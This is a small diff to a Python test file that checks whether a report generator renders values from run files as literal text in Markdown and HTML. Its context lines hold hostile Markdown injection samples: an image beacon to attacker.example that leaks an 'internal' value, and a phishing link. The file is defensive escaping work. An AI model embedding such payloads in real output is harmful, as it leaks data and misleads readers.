@@ -1,4 +1,4 @@
-"""Issue 10, item 14: every value the report takes from run files renders as literal text, in the
+"""Every value the report takes from run files renders as literal text, in the
 Markdown file and in the self-contained HTML page (checked with markdown-it's output and in headless
 Chromium's DOM): no image, link, heading, emphasis, code, raw HTML or entity from a value, and a pipe
 never breaks a table row."""
@@ -15,7 +15,7 @@ import pytest
 
 from judge_runner.analysis.report import build_report, md_text
 
-# One member of each kind of Markdown a value could smuggle in (issue 10's four examples first).
+# One member of each kind of Markdown a value could smuggle in (the four reported examples first).
 HOSTILE = {
     "image": "![s](https://attacker.example/pixel.png?leak=internal)",
     "link": "[the fix](https://phish.example/login)",
